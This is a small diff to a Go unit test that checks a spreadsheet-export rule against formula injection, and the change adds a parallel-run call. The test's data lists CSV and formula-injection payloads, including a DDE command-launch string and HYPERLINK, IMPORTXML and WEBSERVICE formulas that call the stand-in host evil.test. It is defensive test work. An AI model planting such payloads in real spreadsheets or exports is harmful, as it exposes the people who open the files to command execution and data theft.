@@ -12,6 +12,7 @@ import (
 // X-4 of docs/security.md: no text of a sheet or of the service becomes a
 // formula in a workbook of ours, and none is changed to keep it from that.
 func TestX4_NoFormulas(t *testing.T) {
+	t.Parallel()
 	payloads := []string{
 		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.test","x")`,
 		`=DDE("a";"b";"c")`, `=IMPORTXML("http://evil.test","//a")`, `=WEBSERVICE("http://evil.test")`, "＝1+1", "＋1", "－1", "＠SUM(1)",
